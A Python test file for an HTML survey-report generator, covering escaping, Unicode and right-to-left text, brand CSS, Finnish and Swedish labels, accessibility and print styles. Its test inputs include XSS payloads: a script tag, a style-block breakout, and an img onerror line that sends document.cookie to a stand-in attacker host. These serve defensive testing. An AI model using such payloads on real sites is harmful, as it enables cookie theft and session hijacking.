"""The HTML report: brand, language, accessibility, print, and respondents' text kept inert."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from report_data import manifest, nps_responses, response, synthetic

from functions.manifest import Brand
from functions.report import produce
from functions.report.filters import Filters

HOSTILE = [
    "<script>alert('kassa')</script>",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
    "Kiitos 🙏 — ÅÄÖ åäö ß “lainaus” & <b>lihavoitu</b>",
    "شكراً لكم على الخدمة الممتازة",
    "שירות מצוין, תודה רבה",
]


class Elements(HTMLParser):
    """Collects start tags with their attributes, to look at the page as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def render(responses: object, **changes: object) -> str:
    body, content_type, _ = produce(manifest(**changes), responses, "html")  # type: ignore[arg-type]
    assert content_type == "text/html; charset=utf-8"
    return body.decode("utf-8")


def parse(html: str) -> Elements:
    elements = Elements()
    elements.feed(html)
    return elements


def test_respondent_html_in_comments_is_shown_as_text_and_never_runs() -> None:
    html = render([response(i, {"improve": text}) for i, text in enumerate(HOSTILE)])
    tags = parse(html).tags
    assert not [t for t, _ in tags if t in ("script", "img", "b")]
    assert not any(name.startswith("on") for _, attrs in tags for name in attrs)
    assert "&lt;script&gt;alert(&#39;kassa&#39;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=" in html


def test_unicode_and_right_to_left_comments_keep_their_letters_and_direction() -> None:
    html = render([response(i, {"improve": text}, lang="sv") for i, text in enumerate(HOSTILE)])
    for text in HOSTILE[3:]:
        assert text in html
    assert "Kiitos 🙏 — ÅÄÖ åäö ß “lainaus” &amp; &lt;b&gt;lihavoitu&lt;/b&gt;" in html
    quotes = [attrs for tag, attrs in parse(html).tags if tag == "blockquote"]
    assert len(quotes) == len(HOSTILE)
    assert all(q.get("dir") == "auto" and q.get("lang") == "sv" for q in quotes)


def test_page_wears_the_clients_brand_as_css_custom_properties() -> None:
    html = render(nps_responses([9, 10]))
    assert "--primary: #00594F;" in html and "--on-primary: #FFFFFF;" in html
    assert '--font-family: "Source Sans 3", system-ui, sans-serif;' in html
    assert "Lähikauppa Oy" in html


def test_a_brand_value_that_could_break_out_of_the_style_block_is_replaced() -> None:
    brand = Brand(
        name="Kauppa",
        colors={"primary": "red;}</style><script>alert(1)</script>"},
        font_family="x</style><script>alert(2)</script>",
    )
    html = render(nps_responses([9]), brand=brand)
    assert "<script>" not in html and "alert(" not in html
    assert "--primary: #0B5FFF;" in html


def test_page_is_in_the_surveys_default_language_with_finnish_labels() -> None:
    html = render(synthetic(40))
    assert html.startswith("<!doctype html>") or html.lstrip().startswith("<!doctype html>")
    assert '<html lang="fi">' in html
    assert "Suosittelijat (9–10)" in html and "Miten onnistuimme?" in html


def test_swedish_first_survey_gets_swedish_labels() -> None:
    html = render(synthetic(40), languages=["sv", "fi"])
    assert '<html lang="sv">' in html and "Promotorer (9–10)" in html and "Hur lyckades vi?" in html


def test_unknown_report_language_falls_back_to_english_labels() -> None:
    html = render(synthetic(40), languages=["de"], title={"de": "Wie war es?"})
    assert '<html lang="de">' in html and "Promoters (9–10)" in html


def test_every_chart_is_an_image_with_a_title_beside_a_table_of_the_same_figures() -> None:
    html = render(synthetic(60))
    charts = re.findall(r'<svg[^>]*role="img"[^>]*aria-labelledby="([^"]+)"', html)
    assert len(charts) >= 6
    for chart_id in charts:
        assert f'<title id="{chart_id}">' in html
    sections = html.split("<section")[1:]
    assert all("<table>" in s for s in sections if 'role="img"' in s)
    assert html.count('<th scope="col">') > 10 and "<caption>" in html


def test_empty_survey_says_no_responses_yet() -> None:
    html = render(iter([]))
    assert "Ei vielä vastauksia" in html
    assert "NaN" not in html and "None" not in html


def test_too_few_responses_show_counts_and_say_so_instead_of_percentages() -> None:
    html = render(nps_responses([10, 9, 0]))
    assert "Liian vähän vastauksia (3)" in html
    assert "NPS 33" not in html and "%" not in html.split("<main>")[1]


def test_enough_responses_show_the_nps_with_its_margin() -> None:
    html = render(nps_responses([10, 9, 9, 8, 7, 6, 5, 3, 0, 10] * 3))
    # margin: 1.96 · √0.8 / √30 · 100 = 32.0 points
    assert "NPS 0" in html and "±32 pistettä" in html


def test_print_stylesheet_prepares_the_page_for_pdf() -> None:
    html = render(synthetic(40))
    assert "@media print" in html and "break-inside: avoid" in html and "print-color-adjust: exact" in html


def test_filters_are_named_at_the_top_of_the_page() -> None:
    body, _, _ = produce(manifest(), synthetic(40), "html", Filters(touchpoint="myymala-vaasa"))
    assert "Näytetään vain" in body.decode() and "Myymälä Vaasa" in body.decode()


def test_breakdown_tables_name_touchpoints_and_mark_thin_groups() -> None:
    responses = [
        *[response(i, {"recommend": 10}, tp="myymala-vaasa") for i in range(30)],
        *[response(100 + i, {"recommend": 0}, tp="verkkokauppa") for i in range(4)],
    ]
    html = render(responses)
    vaasa = html.split("Myymälä Vaasa</th>")[1].split("</tr>")[0]
    web = html.split("Verkkokauppa</th>")[1].split("</tr>")[0]
    assert "<td>30</td><td>100</td>" in vaasa
    assert "<td>4</td><td>liian vähän (4)</td>" in web
